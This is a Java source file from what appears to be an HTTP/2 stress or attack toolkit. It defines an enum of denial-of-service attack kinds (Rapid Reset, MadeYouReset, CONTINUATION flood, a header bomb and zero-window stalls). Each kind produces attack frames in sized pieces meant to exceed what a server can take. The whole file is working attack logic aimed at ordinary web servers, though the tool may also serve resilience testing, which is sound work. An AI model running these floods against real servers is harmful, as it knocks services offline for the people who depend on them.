package io.sluice.kit.attack;

import io.sluice.kit.h2.Fields;
import io.sluice.kit.h2.Floods;
import io.sluice.kit.h2.MadeYouReset;
import java.util.Locale;

/** The ways in which one HTTP/2 connection costs a server more than its client: the attack, in pieces of some kilobytes. */
public enum H2AttackKind {
    /** H2-01: requests and their cancellations. */
    RAPID_RESET(1000) {
        @Override
        byte[] piece(int number, Fields head) {
            return Floods.rapidReset(1 + 2 * PER_PIECE * number, PER_PIECE, head);
        }
    },
    /** H2-02: requests, and frames for which the server has to cancel them itself. */
    MADE_YOU_RESET(50_000) {
        @Override
        byte[] piece(int number, Fields head) {
            MadeYouReset[] all = MadeYouReset.values();
            return all[number % all.length].attack(1 + 2 * number, head);
        }
    },
    /** H2-05: a head that goes on for ever, a byte per frame. */
    CONTINUATION(1000) {
        @Override
        byte[] piece(int number, Fields head) {
            return number == 0 ? Floods.endlessHead(1, HEAD_LENGTH, head) : CONTINUED;
        }
    },
    /** H2-06: a byte of the head for each field, and no window for the answers. */
    BOMB(100) {
        @Override
        byte[] piece(int number, Fields head) {
            return number == 0 ? Floods.bombFuse(1, head, "") : Floods.bomb(1 + 2 * number, head, BOMB_FIELDS);
        }

        @Override
        boolean opensWindows() {
            return false;
        }
    },
    /** H2-03: a hundred requests for something large, and no window for the answers. */
    ZERO_WINDOW(1) {
        @Override
        byte[] piece(int number, Fields head) {
            return Floods.requests(1, PER_PIECE, head);
        }

        @Override
        boolean opensWindows() {
            return false;
        }
    };

    private static final int PER_PIECE = 100;
    private static final int BOMB_FIELDS = 8000;
    private static final int HEAD_LENGTH = 1 << 20;
    private static final byte[] CONTINUED = Floods.moreContinuations(1, PER_PIECE, 1);

    private final int pieces;

    H2AttackKind(int pieces) {
        this.pieces = pieces;
    }

    /** How many pieces one connection has: more than any server should take. */
    int pieces() {
        return pieces;
    }

    /** Bytes to be sent, after those before. */
    abstract byte[] piece(int number, Fields head);

    /** Takes answers; otherwise their windows are 0. */
    boolean opensWindows() {
        return true;
    }

    /** {@code rapid-reset}. */
    public String label() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }
}
